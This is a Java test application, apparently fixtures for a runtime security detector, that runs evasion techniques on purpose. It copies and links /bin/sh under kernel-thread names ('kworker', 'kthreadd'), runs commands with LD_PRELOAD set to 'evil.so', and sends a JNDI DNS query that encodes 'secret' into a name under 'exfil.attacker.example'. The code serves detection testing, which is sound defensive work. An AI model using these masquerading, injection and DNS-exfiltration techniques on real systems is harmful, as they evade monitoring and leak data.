package dev.tripline.testapp;

import java.net.DatagramSocket;
import java.net.InetAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.Hashtable;
import java.util.List;
import java.util.concurrent.TimeUnit;
import javax.naming.NamingException;
import javax.naming.directory.InitialDirContext;

/**
 * Ways around the obvious: a shell under another name (a copy, a link, /proc/self/exe), a known
 * command re-run with LD_PRELOAD, a reverse DNS lookup, a JNDI DNS query. Usage: SidestepApp <work
 * dir>
 */
public final class SidestepApp {
  public static void main(String[] args) throws Exception {
    Path dir = Path.of(args[0]);
    Files.createDirectories(dir);
    Path copy = dir.resolve("kworker");
    Files.copy(Path.of("/bin/sh"), copy, StandardCopyOption.REPLACE_EXISTING);
    copy.toFile().setExecutable(true);
    Path link = dir.resolve("kthreadd");
    Files.deleteIfExists(link);
    Files.createSymbolicLink(link, Path.of("/bin/sh"));
    run(List.of(copy.toString(), "-c", "echo copied"), null);
    run(List.of(link.toString(), "-c", "echo linked"), null);
    run(List.of("/proc/self/exe", "-version"), null);
    // the same command three times: plain, with LD_PRELOAD, with a harmless variable changed
    run(List.of("/bin/echo", "preload"), null);
    run(List.of("/bin/echo", "preload"), dir.resolve("evil.so").toString());
    run(List.of("/bin/echo", "preload"), "");
    reverse();
    jndiDns();
    System.out.println("SIDESTEPAPP DONE");
  }

  /** Runs {@code cmd}; {@code preload}: LD_PRELOAD's value, "" to change TZ instead. */
  private static void run(List<String> cmd, String preload) throws Exception {
    ProcessBuilder pb = new ProcessBuilder(cmd).redirectErrorStream(true);
    if (preload != null && preload.isEmpty()) {
      pb.environment().put("TZ", "UTC");
    } else if (preload != null) {
      pb.environment().put("LD_PRELOAD", preload);
    }
    Process p = pb.start();
    p.getInputStream().readAllBytes();
    p.waitFor(30, TimeUnit.SECONDS);
  }

  /** getHostName() of an address-only InetAddress: a PTR query. */
  private static void reverse() throws Exception {
    InetAddress a = InetAddress.getByAddress(new byte[] {127, 0, 0, 1});
    System.out.println("reverse 127.0.0.1 = " + a.getHostName());
  }

  /** A TXT query through JNDI to a local port nothing answers on: the query name is the payload. */
  @SuppressWarnings("BanJNDI") // deliberate: the query a JNDI injection makes must be seen
  private static void jndiDns() throws Exception {
    int port;
    try (DatagramSocket free = new DatagramSocket(0, InetAddress.getLoopbackAddress())) {
      port = free.getLocalPort();
    }
    Hashtable<String, String> env = new Hashtable<>();
    env.put("java.naming.factory.initial", "com.sun.jndi.dns.DnsContextFactory");
    env.put("com.sun.jndi.dns.timeout.initial", "200");
    env.put("com.sun.jndi.dns.timeout.retries", "1");
    try {
      new InitialDirContext(env)
          .getAttributes(
              "dns://127.0.0.1:" + port + "/c2VjcmV0.exfil.attacker.example", new String[] {"TXT"});
    } catch (NamingException expected) {
      System.out.println("jndi dns: " + expected.getClass().getSimpleName());
    }
  }
}
